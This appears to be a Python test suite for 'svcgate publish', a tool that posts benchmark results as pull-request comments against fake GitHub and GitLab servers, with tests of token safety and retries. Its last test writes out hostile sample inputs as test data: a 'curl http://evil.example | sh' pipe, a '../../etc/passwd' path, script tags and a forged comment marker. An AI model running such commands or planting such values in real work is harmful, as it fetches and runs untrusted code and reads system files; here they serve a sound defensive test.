#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""svcgate publish against servers that follow the published REST descriptions of GitHub and GitLab
(forge_fake.py): one comment, never two; nothing lost; the token goes nowhere else; a bundle of a stranger
can do nothing but be shown."""
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import unittest

from forge_fake import SHA, TOKEN, Enterprise, Fault, GitHub, GitLab, http_date

SVCGATE = os.path.realpath(os.environ.get("SVCGATE", "build/release/svcgate"))
MARKER = "<!-- svcgate:api -->"
COMMENTS = "/repos/shop/api/issues/7/comments"
ONE_COMMENT = r"/repos/shop/api/issues/comments/\d+"
NOTES = "/api/v4/projects/12/merge_requests/7/notes"


def session(effect, **more):
    """A session of two variants; the candidate is worse by `effect`."""
    wobble = [0.99, 1.0, 1.01]
    repetitions = [{"block": 1 + i // 3, "slot": 1 + 2 * i + k, "variant": variant,
                    "values": {"latency_p95": 0.010 * wobble[(i + k) % 3] * (1 + effect * k)}}
                   for i in range(9) for k, variant in enumerate(("base", "candidate"))]
    value = {"schema": "svcgate.session/1", "id": "20261127-1", "created": "2026-11-27T10:00:00Z",
             "tool": "svcgate 0.1.0", "service": "api", "reference": "base", "complete": True,
             "config": "bench/svcgate.yaml",
             "plan": {"planned": True, "min_repetitions": 9, "max_repetitions": 9, "block_size": 3, "alpha": 0.01,
                      "beta": 0.05, "seed": "7", "attempt": 1},
             "metrics": [{"name": "latency_p95", "unit": "s", "better": "lower", "scale": "log"}],
             "gates": [{"metric": "latency_p95", "tolerance": 0.2, "line": 12}],
             "variants": [{"name": "base"}, {"name": "candidate"}], "repetitions": repetitions}
    value.update(more)
    return value


def without_code(markdown):
    """What Markdown gives a meaning: no fences, no code spans, no escaped characters."""
    markdown = re.sub(r"^( *)(`{3,})[^`\n]*\n.*?^\1\2$", "", markdown, flags=re.S | re.M)
    markdown = re.sub(r"\\.", "", markdown)
    return re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown)


class Case(unittest.TestCase):
    maxDiff = None

    def setUp(self):
        self.folder = tempfile.TemporaryDirectory(prefix="svcgate-publish-")
        self.addCleanup(self.folder.cleanup)
        self.work = pathlib.Path(self.folder.name)
        self.fake = self.make_fake()
        self.addCleanup(self.fake.close)
        self.expected_violations = []
        self.printed = ""

    def tearDown(self):
        self.assertEqual(self.fake.violations, self.expected_violations)
        self.assertNotIn(TOKEN, self.printed, "the token was printed")

    def bundle(self, effect=0.5, name="bundle", **more):
        folder = self.work / name
        folder.mkdir(exist_ok=True)
        (folder / "session.json").write_text(json.dumps(session(effect, **more)))
        return str(folder)

    def run_publish(self, status, *words, env=None, timeout="20s"):
        clean = {k: v for k, v in os.environ.items()
                 if not re.match(r"SVCGATE_|GITHUB_|GITLAB_|GH_|CI_|CI$|https?_proxy|HTTPS?_PROXY", k)}
        clean.update(self.environment() if env is None else env)
        words = [SVCGATE, "publish", f"--timeout={timeout}", *words]
        done = subprocess.run(words, cwd=self.work, env=clean, capture_output=True, text=True, timeout=120, check=False)
        self.out, self.err = done.stdout, done.stderr
        self.printed += done.stdout + done.stderr
        self.assertEqual(done.returncode, status, f"{words}\n{done.stdout}\n{done.stderr}")

    def bodies(self):
        return [comment["body"] for comment in self.fake.comments]

    def is_published(self, sign="FAIL"):
        """There is exactly one comment of ours, and it says so."""
        ours = [body for body in self.bodies() if body.startswith(MARKER + "\n")]
        self.assertEqual(len(ours), 1)
        self.assertIn(sign, ours[0])
        return ours[0]

    def is_kept(self, path="svcgate-comment.md"):
        """The comment is left as a file, and the command that is told sends it."""
        kept = self.work / path
        self.assertIn("svcgate: FAIL".replace("svcgate: ", "## svcgate: ✗ "), kept.read_text())
        return re.search(r"^  svcgate publish (.*)$", self.err, re.M).group(1).split()


class OnGitHub(Case):
    def make_fake(self):
        return GitHub()

    def event(self, value, name="event.json"):
        path = self.work / name
        path.write_text(json.dumps(value))
        return str(path)

    def environment(self, event=None, kind="pull_request", **more):
        if event is None:
            event = {"pull_request": {"number": 7, "head": {"sha": SHA}}, "repository": {"id": 526}}
        return {"GITHUB_ACTIONS": "true", "GITHUB_API_URL": self.fake.api, "GITHUB_REPOSITORY": "shop/api",
                "GITHUB_EVENT_PATH": self.event(event), "GITHUB_EVENT_NAME": kind, "GITHUB_TOKEN": TOKEN,
                "GITHUB_SHA": "f" * 40, **more}

    # --- one comment -----------------------------------------------------------------------------

    def test_a_first_comment_is_made(self):
        self.run_publish(0, self.bundle())
        body = self.is_published()
        self.assertIn("comment made under pull request 7: https://github.com/shop/api/pull/7#issuecomment-", self.out)
        self.assertIn("latency_p95 of `candidate` is 50.0 % worse than `base`", body)
        self.assertEqual(self.err, "")

    def test_no_folder_of_the_runner_is_told(self):
        self.run_publish(0, self.bundle() + "/")
        body = self.is_published()
        self.assertNotIn(str(self.work), body)
        self.assertIn("svcgate judge bundle ", body)

    def test_it_is_updated_in_place_and_turns_green_when_healed(self):
        self.run_publish(0, self.bundle(0.5))
        self.run_publish(0, self.bundle(0.0))
        self.assertIn("comment updated", self.out)
        self.is_published("PASS")
        self.assertEqual(self.fake.made("POST"), [COMMENTS])

    def test_the_same_text_is_not_sent_again(self):
        self.run_publish(0, self.bundle())
        self.run_publish(0, self.bundle())
        self.assertIn("up to date", self.out)
        self.assertEqual((len(self.fake.made("POST")), len(self.fake.made("PATCH"))), (1, 0))

    def test_our_comment_is_found_on_the_third_page(self):
        for i in range(70):
            self.fake.add(f"talk {i}", {"id": 1, "login": "ada", "type": "User"})
        self.fake.add(f"{MARKER}\nold")
        self.fake.add("more talk", {"id": 1, "login": "ada", "type": "User"})
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertEqual(self.fake.made("GET").count(COMMENTS), 3)
        self.assertEqual(self.fake.made("POST"), [])

    def test_comments_of_others_are_left_alone(self):
        ada = {"id": 1, "login": "ada", "type": "User"}
        texts = [f"{MARKER}\nI can write this, too", f"> {MARKER}\n> quoted\n\nwhy?", f"see {MARKER}"]
        for text in texts:
            self.fake.add(text, ada)
        self.fake.add(f"> {MARKER}\nquoted by a program", {"id": 2, "login": "other[bot]", "type": "Bot"})
        self.run_publish(0, self.bundle())
        self.assertEqual(self.bodies()[:3], texts)
        self.assertEqual(len(self.fake.comments), 5)

    def test_another_program_can_write_our_marker_too_and_keeps_its_comment(self):
        other = {"id": 2, "login": "other[bot]", "type": "Bot"}
        self.fake.add(f"{MARKER}\nold")
        self.fake.add(f"{MARKER}\n> quoted by a program", other)
        self.run_publish(0, self.bundle())
        self.assertIn("FAIL", self.bodies()[0])
        self.assertEqual(self.bodies()[1], f"{MARKER}\n> quoted by a program")
        self.assertEqual(len(self.fake.comments), 2)

    def test_what_a_stranger_says_in_our_words_is_not_taken_for_ours(self):
        self.run_publish(0, self.bundle())
        for kind, login in (("User", "eve"), ("Bot", "eve[bot]"), ("User", "github-actions")):
            self.fake.comments[0]["user"] = {"id": 3, "login": login, "type": kind}
            self.run_publish(0, self.bundle())
            self.assertIn("comment made", self.out)
            self.assertEqual([comment["user"]["login"] for comment in self.fake.comments], [login, "github-actions[bot]"])
            self.fake.comments.pop()
        self.assertEqual(self.fake.made("PATCH"), [])

    def test_a_program_of_ones_own_knows_its_comments(self):
        actions = self.fake.me
        self.fake.me = {"id": 9, "login": "perf[bot]", "type": "Bot"}
        self.fake.add(f"{MARKER}\nof the workflow's token", actions)
        self.run_publish(0, self.bundle())
        self.run_publish(0, self.bundle(0.0))
        self.assertIn("of the workflow's token", self.bodies()[0])
        self.assertIn("PASS", self.bodies()[1])
        self.assertEqual(len(self.fake.comments), 2)

    def test_where_nobody_says_who_we_are_only_the_workflows_own_program_counts(self):
        other = {"id": 2, "login": "other[bot]", "type": "Bot"}
        self.fake.add(f"{MARKER}\nold")
        self.fake.add(f"{MARKER}\nother", other)
        self.fake.faults = [Fault("POST", "/graphql", 404, body={"message": "Not Found"})]
        self.run_publish(0, self.bundle())
        self.assertIn("FAIL", self.bodies()[0])
        self.fake.has_viewer = False
        self.run_publish(0, self.bundle(0.0))
        self.assertIn("PASS", self.bodies()[0])
        self.assertEqual(self.bodies()[1:], [f"{MARKER}\nother"])

    def test_when_it_cannot_be_asked_who_we_are_nothing_is_written(self):
        self.fake.faults = [Fault("POST", "/graphql", 502, body={}) for _ in range(8)]
        self.run_publish(5, self.bundle(), timeout="3s")
        self.assertIn("whom the token belongs to", self.err)
        self.assertEqual(self.fake.comments, [])

    def test_a_server_of_ones_own_has_graphql_beside_its_rest(self):
        self.fake = Enterprise()
        self.addCleanup(self.fake.close)
        self.fake.add(f"{MARKER}\nold")
        self.fake.add(f"{MARKER}\nother", {"id": 2, "login": "other[bot]", "type": "Bot"})
        self.run_publish(0, self.bundle())
        self.assertIn("FAIL", self.bodies()[0])
        self.assertEqual(self.bodies()[1:], [f"{MARKER}\nother"])
        self.assertIn("/api/graphql", [path for _, path, _, _ in self.fake.requests])

    def test_with_a_users_token_only_that_users_comments_count(self):
        self.fake.user = {"id": 77, "login": "release", "type": "User"}
        self.fake.add(f"{MARKER}\nof a bot")
        self.fake.add(f"{MARKER}\nold", self.fake.user)
        self.run_publish(0, self.bundle())
        self.assertIn("of a bot", self.bodies()[0])
        self.assertIn("FAIL", self.bodies()[1])
        self.assertEqual(len(self.fake.comments), 2)

    def test_of_two_after_a_race_the_newest_is_updated_and_no_third_made(self):
        self.fake.add(f"{MARKER}\nfirst")
        self.fake.add(f"{MARKER}\nsecond")
        self.run_publish(0, self.bundle())
        self.assertEqual(self.bodies()[0], f"{MARKER}\nfirst")
        self.assertIn("FAIL", self.bodies()[1])
        self.assertEqual(len(self.fake.comments), 2)

    def test_two_at_once_make_two_at_most_and_then_never_a_third(self):
        bundle = self.bundle()
        env = {**self.environment(), "PATH": os.environ["PATH"]}
        both = [subprocess.Popen([SVCGATE, "publish", bundle], env=env, cwd=self.work, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True) for _ in range(2)]
        for process in both:
            self.printed += "".join(process.communicate(timeout=60))
            self.assertEqual(process.returncode, 0)
        count = len(self.fake.comments)
        self.assertIn(count, (1, 2))
        self.run_publish(0, self.bundle(0.0))
        self.assertEqual(len(self.fake.comments), count)
        self.assertIn("PASS", self.bodies()[-1])

    def test_each_name_has_its_own_comment(self):
        self.run_publish(0, self.bundle())
        self.run_publish(0, self.bundle(), "--name", "nightly")
        self.run_publish(0, self.bundle(), "--name", "night")
        self.assertEqual([body.split("\n")[0] for body in self.bodies()],
                         [MARKER, "<!-- svcgate:nightly -->", "<!-- svcgate:night -->"])

    def test_a_comment_that_goes_away_meanwhile_is_made_again(self):
        self.fake.add(f"{MARKER}\nold")
        self.fake.faults = [Fault("PATCH", ONE_COMMENT, 404, body={"message": "Not Found"})]
        listing = self.fake.serve

        def serve(method, path, *rest):
            if method == "GET" and path == COMMENTS and self.fake.made("PATCH"):
                self.fake.comments.clear()
            return listing(method, path, *rest)
        self.fake.serve = serve
        self.run_publish(0, self.bundle())
        self.is_published()

    # --- when a comment is made ------------------------------------------------------------------

    def test_a_plain_pass_makes_no_first_comment(self):
        self.run_publish(0, self.bundle(0.0))
        self.assertIn("no comment needed", self.out)
        self.assertEqual(self.bodies(), [])

    def test_always_makes_one_for_a_pass(self):
        self.run_publish(0, self.bundle(0.0), "--comment", "always")
        self.is_published("PASS")

    def test_on_fail_does_not_comment_on_what_is_inconclusive_but_updates(self):
        unclear = self.bundle(0.19)
        self.run_publish(0, unclear, "--comment", "on-fail")
        self.assertEqual(self.bodies(), [])
        self.run_publish(0, unclear, "--comment", "on-change")
        self.is_published("INCONCLUSIVE")
        self.run_publish(0, self.bundle(0.0), "--comment", "on-fail")
        self.is_published("PASS")

    def test_never_asks_for_no_comments(self):
        self.run_publish(0, self.bundle(), "--comment", "never")
        self.assertEqual(self.fake.requests, [])

    # --- which pull request ----------------------------------------------------------------------

    def test_a_push_without_a_pull_request_is_no_error(self):
        self.run_publish(0, self.bundle(), env=self.environment({"ref": "refs/heads/main"}, "push"))
        self.assertIn("the event push belongs to no pull request", self.out)
        self.assertEqual(self.fake.requests, [])

    def run_event(self, **more):
        return {"repository": {"id": 526}, "workflow_run": {
            "head_sha": SHA, "head_branch": "fast", "event": "pull_request", "pull_requests": [],
            "head_repository": {"owner": {"login": "ada"}}, **more}}

    def pull(self, number, sha=SHA, state="open", owner="ada"):
        self.fake.pulls.append({"number": number, "state": state,
                                "head": {"ref": "fast", "sha": sha, "user": {"login": owner}}})

    def test_a_workflow_run_names_its_pull_request(self):
        pulls = [{"number": 3, "base": {"repo": {"id": 999}}}, {"number": 7, "base": {"repo": {"id": 526}}}]
        self.run_publish(0, self.bundle(), env=self.environment(self.run_event(pull_requests=pulls), "workflow_run"))
        self.is_published()

    def test_a_workflow_run_of_a_fork_is_looked_up_by_its_head(self):
        self.pull(5, sha="0" * 40)
        self.pull(6, state="closed")
        self.pull(9, owner="eve")
        self.pull(7)
        self.run_publish(0, self.bundle(), env=self.environment(self.run_event(), "workflow_run"))
        self.is_published()
        self.assertEqual(self.fake.comments[0]["issue"], 7)

    def test_a_fork_with_newer_commits_is_left_alone(self):
        self.pull(7, sha="0" * 40)
        self.run_publish(0, self.bundle(), env=self.environment(self.run_event(), "workflow_run"))
        self.assertIn("no open pull request has the head ada:fast at 3dca65fa3e8d", self.out)
        self.assertEqual(self.bodies(), [])

    def test_a_closed_pull_request_is_not_taken_from_a_server_that_lists_it(self):
        listed = [{"number": 7, "state": "closed", "head": {"sha": SHA}}]
        self.fake.faults = [Fault("GET", "/repos/shop/api/pulls", 200, body=listed)]
        self.run_publish(0, self.bundle(), env=self.environment(self.run_event(), "workflow_run"))
        self.assertIn("it is closed", self.out)
        self.assertEqual(self.bodies(), [])

    def test_several_pull_requests_of_a_head_need_a_word(self):
        self.pull(7)
        self.pull(8)
        self.run_publish(4, self.bundle(), env=self.environment(self.run_event(), "workflow_run"))
        self.assertIn("several pull requests (7, 8)", self.err)
        self.run_publish(0, self.bundle(), "--request", "7", env=self.environment(self.run_event(), "workflow_run"))
        self.is_published()

    def test_flags_are_enough_outside_of_ci(self):
        env = {"GH_TOKEN": TOKEN}
        words = ["--forge", "github", "--api", self.fake.api, "--repository", "shop/api"]
        self.run_publish(4, self.bundle(), *words, env=env)
        self.assertIn("--request", self.err)
        self.run_publish(0, self.bundle(), *words, "--request", "7", env=env)
        self.is_published()

    def test_nothing_said_at_all_is_a_usage_error(self):
        self.run_publish(4, self.bundle(), env={})
        self.assertIn("--forge", self.err)

    # --- refusals --------------------------------------------------------------------------------

    def refused(self, fault, *sentences, status=5):
        self.fake.faults = [fault] * 9 if fault.status and fault.status >= 429 else [fault]
        self.run_publish(status, self.bundle())
        for sentence in sentences:
            self.assertIn(sentence, self.err)
        self.is_kept()

    def test_401_says_that_the_token_does_not_count(self):
        self.fake.token = "another"
        self.run_publish(5, self.bundle())
        self.assertIn("(401, Bad credentials", self.err)
        self.assertIn("the token does not count here", self.err)
        self.is_kept()

    def test_403_of_a_fork_is_explained_with_the_way_out(self):
        self.refused(Fault("POST", COMMENTS, 403, body={"message": "Resource not accessible by integration"}),
                     "Resource not accessible by integration", "pull-requests: write", "workflow_run",
                     "docs/ci-github.md")
        self.assertEqual(self.fake.made("POST"), [COMMENTS])

    def test_403_of_a_rate_limit_is_waited_for(self):
        limit = {"message": "You have exceeded a secondary rate limit"}
        self.fake.faults = [Fault("POST", COMMENTS, 403, {"Retry-After": "1"}, limit),
                            Fault("GET", COMMENTS, 403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1"}, limit)]
        self.run_publish(0, self.bundle())
        self.is_published()

    def test_a_limit_beyond_the_timeout_is_not_waited_for(self):
        self.fake.faults = [Fault("POST", COMMENTS, 403, {"Retry-After": "3600"}, {"message": "slow down"})]
        self.run_publish(5, self.bundle())
        self.assertIn("too many requests", self.err)
        self.is_kept()

    def test_a_limit_without_a_time_is_told_from_a_refusal(self):
        self.refused(Fault("POST", COMMENTS, 403, body={"message": "You have exceeded a secondary rate limit"}),
                     "too many requests")

    def test_404_points_to_repository_and_request(self):
        self.run_publish(5, self.bundle(), "--request", "8")
        self.assertIn("there is no such pull request", self.err)
        self.assertIn("--request=8", self.is_kept())

    def test_422_tells_what_github_says(self):
        self.refused(Fault("POST", COMMENTS, 422, body={"message": "Validation Failed", "errors": [{"code": "x"}]}),
                     "422, Validation Failed", '"code": "x"')

    def test_a_locked_conversation_says_so(self):
        self.refused(Fault("POST", COMMENTS, 410, body={"message": "Issues are disabled"}), "switched off")

    def test_429_is_repeated_after_the_seconds_that_it_names(self):
        self.fake.faults = [Fault("GET", COMMENTS, 429, {"Retry-After": "1"}, {}),
                            Fault("POST", COMMENTS, 429, {"Retry-After": "0"}, {})]
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertEqual(len(self.fake.made("POST")), 2)

    def test_429_is_repeated_after_the_date_that_it_names(self):
        self.fake.faults = [Fault("POST", COMMENTS, 429, {"Retry-After": http_date(2)}, {})]
        self.run_publish(0, self.bundle())
        self.is_published()

    def test_500_twice_and_then_fine(self):
        self.fake.faults = [Fault("GET", COMMENTS, 500, body={}), Fault("GET", COMMENTS, 502, body=b"<html>"),
                            Fault("POST", COMMENTS, 500, body={}), Fault("POST", COMMENTS, 503, body={})]
        self.run_publish(0, self.bundle())
        self.is_published()

    def test_500_for_ever_leaves_the_comment_as_a_file(self):
        self.refused(Fault("POST", COMMENTS, 500, body={"message": "oops"}), "its trouble, not ours")

    # --- answers that get lost or are wrong -------------------------------------------------------

    def test_a_comment_whose_answer_was_lost_is_not_made_twice(self):
        self.fake.faults = [Fault("POST", COMMENTS, then="lose")]
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertIn("comment made", self.out)
        self.assertEqual(self.fake.made("POST"), [COMMENTS])

    def test_a_comment_whose_answer_was_cut_off_is_not_made_twice(self):
        self.fake.faults = [Fault("POST", COMMENTS, then="cut")]
        self.run_publish(0, self.bundle())
        self.is_published()
        self.assertEqual(self.fake.made("POST"), [COMMENTS])

    def test_an_update_whose_answer_was_lost_is_repeated(self):
        self.fake.add(f"{MARKER}\nold")
        self.fake.faults = [Fault("PATCH", ONE_COMMENT, then="lose")]
        self.run_publish(0, self.bundle())
        self.is_published()

    def test_a_slow_answer_is_given_up_and_looked_for(self):
        self.fake.faults = [Fault("POST", COMMENTS, then="hang")]
        self.run_publish(0, self.bundle(), timeout="24s")
        self.is_published()
        self.assertEqual(self.fake.made("POST"), [COMMENTS])

    def test_a_server_slower_than_the_timeout_leaves_the_comment_as_a_file(self):
        self.fake.faults = [Fault("GET", COMMENTS, then="hang") for _ in range(9)]
        self.run_publish(5, self.bundle(), timeout="1s")
        self.is_kept()

    def test_a_page_that_was_cut_off_is_asked_for_again(self):
        self.fake.faults = [Fault("GET", COMMENTS, then="cut")]
        self.run_publish(0, self.bundle())
        self.is_published()

    def test_an_oversized_answer_is_refused(self):
        self.fake.faults = [Fault("GET", COMMENTS, then="huge")]
        self.run_publish(5, self.bundle())
        self.assertIn("larger than", self.err)
        self.is_kept()

    def test_an_answer_that_is_no_json_is_refused(self):
        self.fake.faults = [Fault("GET", COMMENTS, 200, body=b"<html>login</html>")]
        self.run_publish(5, self.bundle())
        self.assertIn("not with JSON", self.err)

    def test_an_answer_of_another_shape_is_refused(self):
        self.fake.faults = [Fault("GET", COMMENTS, 200, body={"comments": []})]
        self.run_publish(5, self.bundle())
        self.assertIn("not the list it should be", self.err)

    # --- the token -------------------------------------------------------------------------------

    def test_the_token_follows_no_redirect(self):
        other = GitHub()
        self.addCleanup(other.close)
        for status in (301, 302, 307, 308):
            self.fake.faults = [Fault("GET", COMMENTS, status, {"Location": other.api + COMMENTS}, {})]
            self.run_publish(5, self.bundle())
            self.assertIn("a redirect is not followed", self.err)
        self.assertEqual(other.requests, [])

    def test_the_token_goes_to_no_page_on_another_host(self):
        other = GitHub()
        self.addCleanup(other.close)
        link = {"Link": f'<{other.api}{COMMENTS}?page=2>; rel="next"'}
        self.fake.faults = [Fault("GET", COMMENTS, 200, link, [])]
        self.run_publish(0, self.bundle())
        self.assertEqual(other.requests, [])
        self.assertEqual(self.fake.made("GET").count(COMMENTS), 2)

    def test_the_token_is_not_repeated_when_a_server_does(self):
        self.fake.faults = [Fault("POST", COMMENTS, 422, body={"message": f"bad Authorization: Bearer {TOKEN}"})]
        self.run_publish(5, self.bundle())
        self.assertIn("Bearer ***", self.err)

    def test_http_is_for_this_machine_only(self):
        for api in ("http://api.github.com", "http://127.0.0.1.example.com", "http://127.0.0.1@example.com",
                    "http://user:geheim@127.0.0.1", "ftp://127.0.0.1", "https://x.example?y", "https://", "127.0.0.1"):
            self.run_publish(4, self.bundle(), "--api", api)
            self.assertNotIn("geheim", self.err)
        self.assertEqual(self.fake.requests, [])

    def test_in_a_job_no_variable_sends_the_token_elsewhere(self):
        other = GitHub()
        self.addCleanup(other.close)
        self.run_publish(4, self.bundle(), env=self.environment(SVCGATE_API=other.api))
        self.assertEqual(other.requests, [])
        self.assertIn("SVCGATE_API is not taken in a CI job", self.err)
        self.assertEqual(self.fake.requests, [])

    def test_the_token_may_come_from_a_file(self):
        (self.work / "token").write_text(TOKEN + "\n")
        self.run_publish(0, self.bundle(), "--token-file", "token", env=self.environment(GITHUB_TOKEN="wrong"))
        self.is_published()

    def test_a_file_that_is_no_token_is_not_shown(self):
        (self.work / "token").write_text("two words-of-secret\n")
        self.run_publish(4, self.bundle(), "--token-file", "token")
        self.assertNotIn("words-of-secret", self.err)
        self.assertEqual(self.fake.requests, [])

    def test_without_a_token_the_comment_is_kept(self):
        env = self.environment()
        del env["GITHUB_TOKEN"]
        self.run_publish(5, self.bundle(), env=env)
        self.assertIn("no token for GitHub: set GITHUB_TOKEN", self.err)
        self.is_kept()

    def test_svcgates_own_variable_comes_first(self):
        self.run_publish(0, self.bundle(), env=self.environment(GITHUB_TOKEN="wrong", SVCGATE_TOKEN=TOKEN))
        self.is_published()

    def test_no_option_takes_the_token(self):
        self.run_publish(4, self.bundle(), "--token=x")
        self.assertIn("unknown option --token", self.err)

    # --- dry run, kept comments -------------------------------------------------------------------

    def test_a_dry_run_sends_nothing_and_needs_no_token(self):
        env = self.environment()
        del env["GITHUB_TOKEN"]
        self.run_publish(0, self.bundle(), "--dry-run", "--check", env=env)
        self.assertEqual(self.fake.requests, [])
        for line in (f"GET {COMMENTS}", f"POST {COMMENTS}", "PATCH /repos/shop/api/issues/comments/{id}",
                     "POST /repos/shop/api/check-runs", MARKER, '"conclusion": "failure"', f'"head_sha": "{SHA}"'):
            self.assertIn(line, self.out)

    def test_a_dry_run_with_a_token_does_not_show_it(self):
        self.run_publish(0, self.bundle(), "--dry-run")
        self.assertEqual(self.fake.requests, [])
        env = self.environment(self.run_event(), "workflow_run")
        self.run_publish(0, self.bundle(), "--dry-run", env=env)
        self.assertIn("GET /repos/shop/api/pulls?state=open&head=ada%3Afast&per_page=100", self.out)
        self.assertIn("/issues/{number}/comments", self.out)

    def test_what_was_kept_can_be_sent_later(self):
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={"message": "no"})]
        self.run_publish(5, self.bundle())
        words = self.is_kept()
        self.run_publish(0, *words, env={"GITHUB_TOKEN": TOKEN})
        sent = self.bodies()
        self.fake.comments.clear()
        self.run_publish(0, self.bundle())
        self.assertEqual(self.bodies(), sent)

    def test_save_says_where_it_is_kept(self):
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(), "--save", "kept.md")
        self.is_kept("kept.md")
        self.assertFalse((self.work / "svcgate-comment.md").exists())

    def test_beside_the_bundle_and_not_in_it(self):
        (self.work / "deep").mkdir()
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(name="deep/bundle"))
        self.is_kept("deep/svcgate-comment.md")
        self.assertEqual(os.listdir(self.work / "deep" / "bundle"), ["session.json"])

    def test_a_link_beside_the_bundle_is_not_written_through(self):
        (self.work / "deep").mkdir()
        (self.work / "deep" / "svcgate-comment.md").symlink_to(self.work / "target")
        (self.work / "target").write_text("precious")
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(name="deep/bundle"))
        self.is_kept("svcgate-comment.md")
        self.assertEqual((self.work / "target").read_text(), "precious")

    def test_a_folder_that_is_a_link_is_not_written_through(self):
        (self.work / "elsewhere" / "bundle").mkdir(parents=True)
        (self.work / "svcgate-report").symlink_to("elsewhere")
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(name="svcgate-report/bundle"))
        self.is_kept("svcgate-comment.md")
        self.assertEqual(os.listdir(self.work / "elsewhere"), ["bundle"])

    def test_where_somebody_says_it_is_kept_a_folder_may_be_a_link_and_the_file_may_not(self):
        (self.work / "elsewhere").mkdir()
        (self.work / "link").symlink_to("elsewhere")
        self.fake.faults = [Fault("POST", COMMENTS, 403, body={}), Fault("POST", COMMENTS, 403, body={})]
        self.run_publish(5, self.bundle(), "--save", "link/kept.md")
        self.is_kept("elsewhere/kept.md")
        (self.work / "elsewhere" / "kept.md").unlink()
        (self.work / "elsewhere" / "kept.md").symlink_to(self.work / "target")
        self.run_publish(5, self.bundle(), "--save", "link/kept.md")
        self.assertFalse((self.work / "target").exists())

    def test_a_body_that_is_too_long_is_refused_before_it_is_sent(self):
        (self.work / "long.md").write_text("x" * 65536)
        self.run_publish(4, "--body", "long.md", "--name", "api")
        self.assertIn("GitHub takes at most 65536", self.err)
        self.assertEqual(self.fake.made("POST"), [])
        (self.work / "long.md").write_text("x" * (65536 - len(MARKER) - 1))
        self.run_publish(0, "--body", "long.md", "--name", "api")
        self.assertEqual([len(body) for body in self.bodies()], [65536])

    # --- the check run ----------------------------------------------------------------------------

    def test_a_check_run_with_remarks_on_the_configuration(self):
        self.run_publish(0, self.bundle(), "--check")
        self.assertEqual(len(self.fake.checks), 1)
        run = self.fake.checks[0]
        self.assertEqual((run["name"], run["head_sha"], run["conclusion"]), ("svcgate api", SHA, "failure"))
        self.assertEqual(run["output"]["title"], "FAIL: latency_p95 of candidate is 50.0 % worse than base")
        self.assertEqual([(a["path"], a["start_line"], a["annotation_level"]) for a in run["annotations"]],
                         [("bench/svcgate.yaml", 12, "failure")])

    def test_what_is_all_well_is_a_success_and_what_is_open_is_neutral(self):
        self.run_publish(0, self.bundle(0.0), "--check")
        self.run_publish(0, self.bundle(0.19), "--check")
        self.assertEqual([run["conclusion"] for run in self.fake.checks], ["success", "neutral"])

    def test_without_the_permission_it_is_a_warning(self):
        self.fake.may_check = False
        self.run_publish(0, self.bundle(), "--check")
        self.assertIn("warning: GitHub did not make the check run (403", self.err)
        self.assertIn("checks: write", self.err)
        self.is_published()

    def many_gates(self, count):
        value = session(0.5)
        names = [f"m{i}" for i in range(count)]
        value["metrics"] = [{"name": n, "unit": "s", "better": "lower", "scale": "log"} for n in names]
        value["gates"] = [{"metric": n, "tolerance": 0.2, "line": 12 + i} for i, n in enumerate(names)]
        for repetition in value["repetitions"]:
            number = repetition["values"]["latency_p95"]
            repetition["values"] = {n: number for n in names}
        return {key: value[key] for key in ("metrics", "gates", "repetitions")}

    def test_many_remarks_go_in_fifties_and_none_twice(self):
        bundle = self.bundle(**self.many_gates(130))
        self.fake.faults = [Fault("POST", "/repos/shop/api/check-runs", then="lose"),
                            Fault("PATCH", r"/repos/shop/api/check-runs/\d+", then="lose")]
        self.run_publish(0, bundle, "--check", "--comment", "never")
        self.assertEqual(len(self.fake.checks), 1)
        lines = [note["start_line"] for note in self.fake.checks[0]["annotations"]]
        self.assertEqual(len(lines), 101)  # and one that says how many more
        self.assertEqual(len(set(lines)), 101)

    def test_the_same_check_run_is_not_made_twice(self):
        self.run_publish(0, self.bundle(), "--check")
        self.run_publish(0, self.bundle(), "--check")
        self.assertEqual(len(self.fake.checks), 1)

    # --- a bundle of a stranger --------------------------------------------------------------------

    def test_a_link_in_place_of_the_session_is_not_followed(self):
        secret = self.work / "secret.json"
        secret.write_text(json.dumps(session(0.5, service="secret-service")))
        folder = self.work / "bundle"
        folder.mkdir()
        (folder / "session.json").symlink_to(secret)
        self.run_publish(3, str(folder))
        self.assertIn("symbolic link", self.err)
        self.assertEqual(self.fake.requests, [])

    def test_a_pipe_in_place_of_the_session_does_not_hang(self):
        folder = self.work / "bundle"
        folder.mkdir()
        os.mkfifo(folder / "session.json")
        self.run_publish(3, str(folder))
        self.assertIn("not a regular file", self.err)

    def test_a_broken_session_is_a_broken_bundle(self):
        folder = self.work / "bundle"
        folder.mkdir()
        for text in ("", "{", "[]", '{"schema": "svcgate.samples/1"}', '{"schema": "svcgate.session/1", "gates": 1}'):
            (folder / "session.json").write_text(text)
            self.run_publish(3, str(folder))
        self.run_publish(4, "nowhere")
        self.assertEqual(self.fake.requests, [])

    def test_a_hostile_bundle_is_only_shown(self):
        evil = ("--> <!-- svcgate:other --> @ada #1 [x](http://evil.example) <script>\n/merge\n::error::x\n"
                "\x1b[31m `|` ](javascript:1)")
        more = {"service": f"api-->{evil}", "command": "curl http://evil.example | sh", "id": evil, "tool": evil,
                "request": 1, "repository": "evil/evil", "api": "http://evil.example", "config": "../../etc/passwd",
                "findings": [{"severity": "warn", "check": "noise", "text": evil, "log": evil}],
                "facts": [{"name": evil, "value": evil, "hard": True}]}
        self.run_publish(0, self.bundle(**more), "--check", "--comment", "always")
        (comment,) = self.fake.comments
        first, rest = comment["body"].split("\n", 1)
        self.assertRegex(first, r"^<!-- svcgate:api-svcgate-other-[A-Za-z0-9._-]* -->$")
        self.assertEqual(comment["issue"], 7)
        self.assertNotIn("curl ", rest)
        self.assertNotIn("\x1b", rest)
        live = without_code(rest)
